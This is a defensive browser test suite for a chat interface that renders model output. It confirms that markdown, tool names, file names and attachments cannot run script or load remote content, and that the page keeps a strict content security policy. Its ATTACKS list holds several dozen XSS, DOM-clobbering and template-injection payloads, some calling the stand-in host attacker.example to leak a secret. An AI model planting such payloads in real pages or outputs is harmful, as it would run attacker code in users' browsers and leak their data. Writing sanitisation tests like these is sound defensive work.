// Whatever a model, a tool or a file name says is text: nothing of it runs, loads, or leaves the page.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { openConsole, startBrowser } from "./support/browser.mjs";
import { Server } from "./support/server.mjs";

let server, browser, close;
before(async () => {
  server = await Server.start();
  ({ browser, close } = await startBrowser());
});
after(async () => {
  await close?.();
  await server?.remove();
});

/** Each one would call `hacked` or ask another host if it were taken for more than text. */
const ATTACKS = [
  "<script>hacked()</script>",
  "<img src=x onerror=hacked()>",
  '<img src="https://attacker.example/pixel.png">',
  "![pixel](https://attacker.example/pixel.png?secret)",
  "![pixel](http://127.0.0.1:9/pixel.png)",
  "![pixel](//attacker.example/pixel.png)",
  "![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGFja2VkKCk+)",
  "[click](javascript:hacked())",
  "[click](JaVaScRiPt:hacked())",
  "[click](java\nscript:hacked())",
  "[click](&#106;avascript:hacked())",
  "[click](vbscript:hacked())",
  "[click](data:text/html,<script>hacked()</script>)",
  "[click](blob:https://attacker.example/1)",
  "[ref]\n\n[ref]: javascript:hacked()",
  "<javascript:hacked()>",
  '<a href="javascript:hacked()">click</a>',
  '<a href="https://example.com" onclick="hacked()" onmouseover="hacked()" style="position:fixed;inset:0">click</a>',
  "<svg onload=hacked()><script>hacked()</script></svg>",
  "<svg><animate onbegin=hacked() attributeName=x dur=1s></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hacked()&gt;\">",
  "<iframe src=\"javascript:hacked()\"></iframe>",
  "<iframe srcdoc=\"<script>parent.hacked()</script>\"></iframe>",
  "<object data=\"data:text/html,<script>hacked()</script>\"></object><embed src=\"https://attacker.example\">",
  "<form action=\"https://attacker.example\"><input name=q value=secret><button>send</button></form>",
  "<style>@import url(https://attacker.example/a.css); body{display:none}</style>",
  "<link rel=stylesheet href=https://attacker.example/a.css><base href=https://attacker.example/>",
  "<meta http-equiv=refresh content=\"0;url=https://attacker.example\">",
  "<details open ontoggle=hacked()><summary>x</summary></details>",
  "<video src=https://attacker.example/v poster=https://attacker.example/p onerror=hacked()></video><audio src=x onerror=hacked()></audio>",
  "<input autofocus onfocus=hacked()>",
  "<body onload=hacked()><div id=app name=app></div>",
  "<a id=composer name=getElementById>clobber</a><img name=querySelector>",
  "<noscript><p title=\"</noscript><img src=x onerror=hacked()>\">",
  "<template><img src=x onerror=hacked()></template>",
  "`<img src=x onerror=hacked()>`",
  "```html\"><img src=x onerror=hacked()>\n<script>hacked()</script>\n```",
  "```js\" onclick=\"hacked()\nx\n```",
  "| a | b |\n|---|---|\n| <img src=x onerror=hacked()> | [x](javascript:hacked()) |",
  "# <img src=x onerror=hacked()>",
  "- [ ] <img src=x onerror=hacked()>\n- [x] [y](javascript:hacked())",
  "\u202egnp.exe <img src=x onerror=hacked()>",
  "{{constructor.constructor('hacked()')()}} ${hacked()} <%= hacked() %>",
];

/** What of the page could run or load something. */
const inventory = () => {
  const found = [];
  for (const node of document.querySelectorAll(".message *, .sessions *, .bar *, dialog *")) {
    const name = node.nodeName.toLowerCase();
    if (/^(script|iframe|object|embed|link|meta|base|style|form|template|video|audio|math|animate|foreignobject)$/.test(name) && !node.closest(".composer, .bar, .fields")) found.push(name);
    for (const { name: attribute, value } of node.attributes) {
      if (/^on/i.test(attribute)) found.push(`${name} ${attribute}`);
      if (/^(href|src|action|formaction|srcdoc|poster|data|xlink:href)$/i.test(attribute) && !/^(https?:|mailto:|blob:|#)/i.test(value)) found.push(`${name} ${attribute}=${value}`);
      if (attribute === "style" && node.closest(".md")) found.push(`${name} style`);
      if ((attribute === "id" || attribute === "name") && node.closest(".md")) found.push(`${name} ${attribute}`);
    }
    if (name === "img" && node.closest(".md")) found.push("img in text");
  }
  return found;
};

async function look(session) {
  const { page, context, troubles } = await openConsole(browser, server.url, { hash: session });
  await context.addInitScript(() => (window.hacked = () => (window.wasHacked = true)));
  await page.reload();
  return { page, context, troubles };
}

test("nothing that a model writes runs, loads or looks like the page", async () => {
  const session = await server.session("attacks");
  for (const attack of ATTACKS) await server.ask(session, attack);
  const { page, context, troubles } = await look(session);
  await page.locator("article.answer").last().waitFor();
  const seen = new Set();
  for (;;) {
    for (const id of await page.locator("article").evaluateAll((all) => all.map((one) => one.dataset.message))) seen.add(id);
    assert.deepEqual(await page.evaluate(inventory), []);
    for (const link of await page.locator(".md a").all()) {
      assert.match(await link.getAttribute("href"), /^(https?|mailto):/);
      assert.equal(await link.getAttribute("rel"), "noopener noreferrer nofollow");
    }
    await page.evaluate(() => document.querySelectorAll(".md details:not([open]) > summary").forEach((summary) => summary.click()));
    const top = await page.locator(".scroll").evaluate((frame) => {
      frame.dispatchEvent(new WheelEvent("wheel"));
      frame.dispatchEvent(new WheelEvent("wheel"));
      frame.scrollTop -= frame.clientHeight * 0.8;
      return frame.scrollTop;
    });
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
    if (top <= 0) break;
  }
  assert.equal(seen.size, 2 * ATTACKS.length);
  assert.equal(await page.evaluate(() => window.wasHacked), undefined);
  assert.deepEqual(troubles, []);
  await context.close();
});

test("text that is nested too deeply for the parser is shown as it was written", async () => {
  const session = await server.session("deep");
  await server.ask(session, `${">".repeat(5000)}deep`);
  await server.ask(session, "last");
  const { page, context, troubles } = await look(session);
  await page.locator("article.answer").last().waitFor({ timeout: 5000 });
  assert.deepEqual(troubles, []);
  await context.close();
});

test("markdown that costs more than it brings is shown as it was written", async () => {
  const costly = [
    "**a_".repeat(5000),
    "[a](".repeat(5000),
    `${"|a".repeat(5000)}|\n${"|-".repeat(5000)}|\n${"|a|\n".repeat(5000)}`,
    `${"[a]: b\n".repeat(5000)}\n${"[a]".repeat(5000)}`,
    Array.from({ length: 300 }, (_, at) => `${" ".repeat(2 * at)}- a`).join("\n"),
  ];
  const session = await server.session("costly");
  for (const text of costly) {
    await server.call("message.MessageService/AppendMessage", { sessionId: session, type: "MESSAGE_TYPE_USER", parts: [{ text: { text } }] });
    const { page, context, troubles } = await look(session);
    const shown = page.locator("article").last().locator(".md pre, .md .long");
    await shown.waitFor();
    assert.equal((await shown.textContent()).trim(), text.trim());
    assert.equal(await page.locator("article").last().locator(".md :is(em, strong, td, a, li)").count(), 0);
    assert.deepEqual(troubles, []);
    await context.close();
  }
  await server.ask(session, `${"- *a* **b** [c](https://example.com)\n".repeat(300)}`);
  const { page, context } = await look(session);
  await page.locator("article.answer li strong").first().waitFor();
  await context.close();
});

test("titles, names of senders, tools and files are text", async () => {
  const attack = '"><img src=x onerror=hacked()>';
  const session = await server.session(attack);
  await server.ask(session, `/tool ${'x"><img/src=x/onerror=hacked()>'} {"a": "<script>hacked()</script>"}\n/step\ndone`, { senderName: attack });
  await server.call("message.MessageService/AppendMessage", {
    sessionId: session, type: "MESSAGE_TYPE_USER", senderName: attack,
    parts: [{ file: { mime: "text/html", filename: `${attack}.html`, data: btoa("<script>hacked()</script>") } }, { file: { mime: "image/svg+xml", filename: "a.svg", data: btoa("<svg onload='hacked()'/>") } }],
  });
  const { page, context, troubles } = await look(session);
  await page.locator("article .file").first().waitFor();
  for (const summary of await page.locator(".call > summary").all()) await summary.click();
  assert.deepEqual(await page.evaluate(inventory), []);
  assert.equal(await page.locator("article img").count(), 0);
  const saved = page.waitForEvent("download");
  await page.locator("article .file").first().click();
  assert.doesNotMatch((await saved).suggestedFilename(), /[<>"/]/);
  assert.equal(await page.evaluate(() => window.wasHacked), undefined);
  assert.deepEqual(troubles, []);
  await context.close();
});

test("the policy of the page lets no text become a script", async () => {
  const answer = await fetch(`${server.url}/`);
  const header = answer.headers.get("content-security-policy");
  assert.match(header, /default-src 'none'/);
  assert.doesNotMatch(header, /unsafe-inline|unsafe-eval|\*/);
  const html = await answer.text();
  assert.match(html, /require-trusted-types-for 'script'/);
  assert.doesNotMatch(html, /<script(?![^>]*\ssrc=)|<style|\son\w+=|\sstyle=/);
  const { page, context } = await openConsole(browser, server.url);
  const refused = await page.evaluate(() => {
    try {
      document.body.innerHTML = "<img src=x onerror=alert(1)>";
      return false;
    } catch (error) {
      return error.name;
    }
  });
  assert.equal(refused, "TypeError");
  await context.close();
});
